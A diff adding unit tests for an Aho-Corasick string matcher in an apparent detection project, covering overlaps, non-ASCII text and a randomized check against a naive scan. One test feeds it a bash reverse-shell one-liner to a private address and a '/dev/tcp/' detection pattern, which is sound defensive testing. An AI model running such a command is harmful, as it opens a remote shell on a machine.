@@ -1,0 +1,38 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { seededRandom } from '@vigil/common';
+import { buildAhoCorasick } from './aho-corasick.js';
+
+function naiveFind(patterns: readonly string[], text: string): number[] {
+  return patterns.flatMap((p, i) => (p.length && text.includes(p) ? [i] : [])).sort((a, b) => a - b);
+}
+
+function found(patterns: readonly string[], text: string): number[] {
+  const seen = new Set<number>();
+  buildAhoCorasick(patterns).search(text, (i) => seen.add(i));
+  return [...seen].sort((a, b) => a - b);
+}
+
+test('finds overlapping, nested and suffix patterns', () => {
+  const patterns = ['he', 'she', 'his', 'hers', 'e', '/dev/tcp/', 'dev'];
+  assert.deepEqual(found(patterns, 'ushers'), [0, 1, 3, 4]);
+  assert.deepEqual(found(patterns, 'bash -i >& /dev/tcp/10.0.0.1/4444'), [4, 5, 6]);
+  assert.deepEqual(found(patterns, ''), []);
+  assert.deepEqual(found([''], 'anything'), []);
+});
+
+test('non-ASCII code units and units no pattern uses', () => {
+  assert.deepEqual(found(['–c', 'ü'], 'cmd –c grüß'), [0, 1]);
+  assert.deepEqual(found(['abc'], 'ab\u2014abc'), [0]);
+});
+
+test('property: same patterns found as a naive includes() scan (seeded, 2,000 cases)', () => {
+  const random = seededRandom(42);
+  const alphabet = 'abc-/ \\é';
+  const word = (max: number) => Array.from({ length: 1 + Math.floor(random() * max) }, () => alphabet[Math.floor(random() * alphabet.length)]).join('');
+  for (let n = 0; n < 2000; n++) {
+    const patterns = Array.from({ length: 1 + Math.floor(random() * 12) }, () => word(5));
+    const text = word(60);
+    assert.deepEqual(found(patterns, text), naiveFind(patterns, text), `patterns ${JSON.stringify(patterns)} text ${JSON.stringify(text)}`);
+  }
+});
